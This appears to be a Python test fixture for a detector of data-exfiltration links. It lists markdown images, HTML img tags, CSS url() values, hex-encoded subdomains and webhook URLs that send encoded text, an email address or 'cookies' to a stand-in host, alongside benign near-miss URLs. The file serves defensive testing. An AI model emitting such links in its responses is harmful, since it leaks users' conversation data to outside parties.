from __future__ import annotations

from base64 import b64encode

from tests.detectors.examples.example import Positive

LINK = "EXFILTRATION_LINK"
WORDS = "the answer to the question is 42"
ENCODED = b64encode(WORDS.encode()).decode()
HEX = WORDS.encode().hex()
POSITIVES = (
    Positive(LINK, "See ", f"![x](https://evil.example/p.png?q={ENCODED})", " ok"),
    Positive(LINK, "See ", f"![](https://evil.example/{HEX}/p.png 'title')", " ok"),
    Positive(LINK, "See ", f"[the report]( <https://evil.example/?r={ENCODED}> )", " ok"),
    Positive(LINK, "![x][r]\n\n[r]: ", "https://evil.example/?data=what-they-said"),
    Positive(LINK, "See ", "![x](https://evil.example/p?note=the+answer+to+the+question)", " ok"),
    Positive(LINK, "See ", "![x](https://evil.example/?to=ada@acme.com)", " ok"),
    Positive(LINK, "", f'<img width="1" src="https://evil.example/?d={ENCODED}">', " ok"),
    Positive(LINK, "", "<img src=//evil.example/c?cookies=what-they-said>", " ok"),
    Positive(LINK, "", f'<p style="background:url(https://evil.example/?x={ENCODED})">', "hi</p>"),
    Positive(LINK, "", f"<a href='https://evil.example/{ENCODED}'>", "more</a>"),
    Positive(LINK, "go to ", f"https://{HEX[:40]}.{HEX[40:]}.evil.example/", " now"),
    Positive(LINK, "go to ", "https://webhook.site/0a1b2c3d-1111/note?y=1", " now"),
    Positive(LINK, "See ", f"![x](https:\\\\evil.example\\{ENCODED})", " ok"),
    Positive(LINK, "See ", f'<img src="https://evil.example/?d={ENCODED}', ""),
)
NEAR_MISSES = (
    "![logo](https://cdn.acme.com/shoes.png?w=300&h=200&v=3f2a9c77b1e04d55)",
    "[![build](https://img.shields.io/badge/x-y?style=flat&logo=python)](https://ci.acme.com/build?id=7)",
    "https://www.google.com/search?q=how+to+bake+a+cake+at+home",
    "![t](https://via.placeholder.com/150?text=Hello+World)",
    "[terms](https://acme.com/terms?utm_source=mail&utm_campaign=spring_sale_2026)",
    "https://bucket.acme.com/a.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "webhook.site shows you what arrives, and ![x](relative/path.png?data=some-long-value) stays here",
    "![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "mail [us](mailto:help@acme.com?subject=the+answer+to+the+question)",
)
